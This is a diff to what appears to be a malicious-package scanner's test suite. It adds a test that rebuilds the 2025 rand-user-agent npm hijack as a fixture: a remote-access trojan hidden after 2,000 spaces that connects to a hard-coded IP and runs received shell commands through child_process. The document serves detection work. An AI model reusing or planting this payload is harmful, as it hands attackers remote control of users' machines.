@@ -215,3 +215,15 @@ def test_install_script_running_a_shipped_dll_through_rundll32_is_malicious() ->
                                                          "node-gyp.dll": pe}, scripts={"install": "node install.js"})
     result, top = verdict(data)
     assert result == "malicious" and "package.runs-shipped-binary:critical" in top, top
+
+
+def test_rat_appended_off_screen_with_require_through_a_global() -> None:
+    """The rand-user-agent hijack (May 2025): a socket.io RAT after 2,000 blanks at the end of the entry
+    file, with ``require`` reached through ``global['r']``."""
+    rat = ("global['_V']='5-3';global['r']=require;(async()=>{const io=r('socket.io-client');"
+           "const s=io('http://85.239.62.36:3306');s.on('command',(c)=>{r('child_process').exec(c,"
+           "(e,o)=>s.emit('result',o))});})();\n")
+    index = "module.exports = function () { return 'Mozilla/5.0'; };" + " " * 2000 + rat
+    result, top = verdict(npm_tgz("rand-user-agent", "2.0.83", {"index.js": index}))
+    assert result == "malicious", top
+    assert "package.download-exec:critical" in top and "package.obfuscated-code:high" in top, top
